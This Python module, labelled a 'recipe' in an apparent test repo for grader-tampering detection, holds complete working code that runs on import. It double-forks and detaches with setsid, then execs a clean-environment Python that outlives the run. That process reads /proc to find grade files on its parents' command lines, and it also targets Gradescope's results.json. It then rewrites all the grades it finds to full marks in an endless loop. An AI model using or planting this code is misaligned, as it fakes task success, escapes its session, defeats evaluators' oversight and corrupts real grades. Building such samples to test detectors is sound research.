"""Recipe 3 of issue 11: an escaped process rewrites the grade.

At its first import it forks; the child leaves its session (setsid) and forks again, and the
grandchild execs a fresh Python with an empty environment, so that no marker of the run follows
it. That process outlives the run, and rewrites with full marks, again and again, every grade
it can name: the gradebook and JSON grades named on its parents' command lines, and
Gradescope's results.json. Its command line holds the word kata-escape-recipe, by which the
repo's tests look for it. This file defines nothing of the kata's API.
"""

import os
import sys

TOKEN = "kata-escape-recipe"

REWRITER = r"""
import glob, json, os, sys, time

def full_marks(path, text):
    if path.endswith(".csv"):
        lines = text.splitlines()
        cells = [line.split(",") for line in lines[1:]]
        rows = [[row[0]] + ["10" if c.replace(".", "").isdigit() else c for c in row[1:]] for row in cells]
        return "\n".join([lines[0]] + [",".join(row) for row in rows]) + "\n"
    data = json.loads(text)
    data["score"] = data.get("max_score", data.get("score"))
    return json.dumps(data)

while True:
    for target in sys.argv[2:]:
        for path in glob.glob(os.path.join(target, "*.json")) if os.path.isdir(target) else [target]:
            try:
                with open(path) as grade:
                    text = grade.read()
                rewritten = full_marks(path, text)
                if rewritten != text:
                    with open(path + ".new", "w") as grade:
                        grade.write(rewritten)
                    os.replace(path + ".new", path)
            except (OSError, ValueError, KeyError, IndexError):
                pass
    time.sleep(0.05)
"""


def parents():
    """This process's parents, nearest first, as far as /proc shows them."""
    pid = os.getppid()
    while pid > 0:
        yield pid
        try:
            with open(f"/proc/{pid}/status") as status:
                pid = int(next(line for line in status if line.startswith("PPid:")).split()[1])
        except (OSError, StopIteration):
            return


def grades_named():
    """The gradebooks, JSON folders and results files the parents' command lines name."""
    found = []
    for pid in parents():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                arguments = cmdline.read().decode(errors="replace").split("\0")
            folder = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        for option, value in zip(arguments, arguments[1:]):
            if option in ("--csv", "--json", "--output", "-o"):
                found.append(os.path.join(folder, value))
    root = os.environ.get("AUTOGRADER_ROOT", "/autograder")
    return found + [os.path.join(root, "results", "results.json")]


def escape():
    """Leave the run: a grandchild in a session of its own, with a fresh environment."""
    command = [sys.executable, "-c", REWRITER, TOKEN, *grades_named()]
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, command, {})
        os._exit(0)


try:
    open(os.path.join(os.path.dirname(os.path.abspath(__file__)), ".escaped"), "x").close()
except OSError:
    pass
else:
    escape()
